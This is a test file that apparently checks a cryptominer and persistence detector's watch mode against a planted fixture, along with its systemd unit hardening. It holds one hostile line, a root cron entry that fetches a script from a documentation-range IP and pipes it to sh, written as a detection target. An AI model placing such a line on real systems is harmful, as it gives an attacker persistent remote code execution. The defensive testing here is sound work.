// End-to-end: `minehunter watch --root` on a temp copy of the miner-host fixture with a download-and-run
// cron file planted. With --once, as cron would run it: the first cycle raises each finding once, the
// next raises nothing, removing the cron file resolves its finding after two scans, and a restart with
// the same state (a row of the scan cache's SQLite database) says nothing, and so does a JSON state
// file an earlier version left, imported once. As a running watcher (--interval 1, -o FILE): a cron file planted while
// it runs is raised once, its removal is resolved, and SIGTERM stops it cleanly with the state saved.
// The shipped systemd unit passes `systemd-analyze verify` where systemd is installed.
import { spawn, spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI_PATH, REPO_ROOT, cliEnv, ensureBuilt, runCli } from '../helpers/cli.js';
import { acquireHostLock } from '../helpers/host-lock.js';
import { savedState } from '../../src/pipeline/watch-store.js';

const MINER_HOST = path.join(REPO_ROOT, 'test', 'fixtures', 'roots', 'miner-host');
const CRON = path.join('etc', 'cron.d', 'system-update');
const CRON_LINE = '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n';

interface WatchEvent {
  event: 'finding' | 'repeat' | 'resolved';
  fingerprint: string;
  ruleId?: string;
  finding?: { ruleId: string; fingerprint: string };
}
const events = (text: string): WatchEvent[] =>
  text
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as WatchEvent);
const ruleOf = (e: WatchEvent) => e.finding?.ruleId ?? e.ruleId;

let dir = '';
let release: (() => Promise<void>) | undefined;

beforeAll(async () => {
  await ensureBuilt();
  // The copy holds dropper-like text under /tmp: a live scan elsewhere in the run must not see it.
  release = await acquireHostLock();
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-watch-'));
}, 240_000);

afterAll(async () => {
  if (dir) rmSync(dir, { recursive: true, force: true });
  await release?.();
});

function freshRoot(name: string): string {
  const root = path.join(dir, name);
  cpSync(MINER_HOST, root, { recursive: true, verbatimSymlinks: true });
  return root;
}

function plant(root: string): void {
  mkdirSync(path.join(root, 'etc', 'cron.d'), { recursive: true });
  writeFileSync(path.join(root, CRON), CRON_LINE);
}

describe('minehunter watch --once', () => {
  it('raises each finding once, resolves a removed cron file after two scans, and survives a restart', async () => {
    const root = freshRoot('once');
    const state = path.join(dir, 'once-state.json');
    const once = async () => {
      const r = await runCli([
        'watch',
        '--root',
        root,
        '--once',
        '--state',
        state,
        '--no-default-allow',
        '-q',
      ]);
      expect(r.code, r.stderr).toBe(0);
      return events(r.stdout);
    };
    plant(root);

    const first = await once();
    expect(first.length).toBeGreaterThan(0);
    expect(first.every((e) => e.event === 'finding')).toBe(true);
    const fps = first.map((e) => e.fingerprint);
    expect(new Set(fps).size).toBe(fps.length);
    expect(first.map(ruleOf)).toEqual(
      expect.arrayContaining(['miner-process-name', 'persistence-download-exec']),
    );
    const cron = first.find((e) => ruleOf(e) === 'persistence-download-exec')!;

    expect(await once()).toEqual([]);

    unlinkSync(path.join(root, CRON));
    // One scan without it may be a blip; the second resolves it, and only it.
    expect(await once()).toEqual([]);
    const resolved = await once();
    expect(resolved).toEqual([
      expect.objectContaining({
        event: 'resolved',
        fingerprint: cron.fingerprint,
        ruleId: 'persistence-download-exec',
      }),
    ]);

    // A restart with the same state: the miner is still there and already reported.
    expect(await once()).toEqual([]);
    // The state is a row of the scan cache's SQLite database, named by --state.
    const saved = savedState(state, await cliEnv())!;
    expect(Object.keys(saved.findings).sort()).toEqual(fps.filter((f) => f !== cron.fingerprint).sort());
    expect(existsSync(state)).toBe(false);

    // An earlier version's JSON state file at another --state: imported once, nothing said again.
    const legacy = path.join(dir, 'legacy-state.json');
    writeFileSync(legacy, JSON.stringify(saved) + '\n');
    const upgraded = await runCli([
      'watch',
      '--root',
      root,
      '--once',
      '--state',
      legacy,
      '--no-default-allow',
    ]);
    expect(upgraded.code, upgraded.stderr).toBe(0);
    expect(events(upgraded.stdout)).toEqual([]);
    expect(upgraded.stderr).toContain(`state imported from ${legacy}`);
    expect(existsSync(`${legacy}.imported`)).toBe(true);
  }, 180_000);
});

describe('minehunter watch (running)', () => {
  it('raises a cron file planted while it runs, resolves its removal, and stops on SIGTERM', async () => {
    const root = freshRoot('loop');
    const state = path.join(dir, 'loop-state.json');
    const out = path.join(dir, 'loop-alerts.jsonl');
    const child = spawn(
      process.execPath,
      [
        CLI_PATH,
        'watch',
        '--root',
        root,
        '--interval',
        '1',
        '--state',
        state,
        '-o',
        out,
        '--no-default-allow',
      ],
      { cwd: REPO_ROOT, env: await cliEnv(), stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => child.once('close', (code) => resolve(code)));
    const seen = () => (existsSync(out) ? events(readFileSync(out, 'utf8')) : []);
    const waitFor = async (what: string, test: (e: WatchEvent[]) => boolean) => {
      const deadline = Date.now() + 90_000;
      while (!test(seen())) {
        if (Date.now() > deadline || child.exitCode !== null)
          throw new Error(
            `no ${what} in ${out}:\n${seen()
              .map((e) => JSON.stringify(e))
              .join('\n')}\n${stderr}`,
          );
        await new Promise((r) => setTimeout(r, 200));
      }
    };
    try {
      await waitFor('first findings', (e) => e.some((x) => ruleOf(x) === 'miner-process-name'));
      expect(seen().map(ruleOf)).not.toContain('persistence-download-exec');

      plant(root);
      await waitFor('cron finding', (e) => e.some((x) => ruleOf(x) === 'persistence-download-exec'));
      unlinkSync(path.join(root, CRON));
      await waitFor('resolved', (e) => e.some((x) => x.event === 'resolved'));
    } finally {
      child.kill('SIGTERM');
    }
    expect(await exited).toBe(0);
    expect(stderr).toMatch(/state saved/);

    const all = seen();
    const raised = all.filter((e) => e.event === 'finding').map((e) => e.fingerprint);
    expect(new Set(raised).size).toBe(raised.length);
    const cron = all.find((e) => ruleOf(e) === 'persistence-download-exec')!;
    expect(all.filter((e) => e.event === 'resolved')).toEqual([
      expect.objectContaining({ fingerprint: cron.fingerprint }),
    ]);
    const saved = savedState(state, await cliEnv())!;
    expect(saved.findings[cron.fingerprint]).toBeUndefined();
    expect(Object.keys(saved.findings).length).toBe(raised.length - 1);
  }, 240_000);
});

describe('deploy/systemd/minehunter-watch.service', () => {
  const unit = readFileSync(path.join(REPO_ROOT, 'deploy', 'systemd', 'minehunter-watch.service'), 'utf8');

  it('runs watch in the foreground, hardened read-only except its state', () => {
    expect(unit).toMatch(/^Type=simple$/m);
    expect(unit).toMatch(/^ExecStart=\S+ watch --state \/var\/lib\/minehunter\/watch-state\.json$/m);
    expect(unit).toMatch(/^ProtectSystem=strict$/m);
    expect(unit).toMatch(/^NoNewPrivileges=yes$/m);
    expect(unit).toMatch(/^ReadWritePaths=.*\/var\/lib\/minehunter/m);
    // It must still see /tmp, /dev/shm and the homes' authorized_keys.
    expect(unit).not.toMatch(/^(PrivateTmp|PrivateDevices)=yes$/m);
    expect(unit).not.toMatch(/^ProtectHome=yes$/m);
  });

  it.runIf(existsSync('/usr/bin/systemd-analyze'))('passes systemd-analyze verify', () => {
    const copy = path.join(dir, 'minehunter-watch.service');
    // The repository's launcher stands in for the installed /usr/local/bin/minehunter.
    writeFileSync(copy, unit.replace('/usr/local/bin/minehunter', path.join(REPO_ROOT, 'minehunter')));
    const r = spawnSync('systemd-analyze', ['verify', copy], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout + r.stderr).toBe('');
  });
});
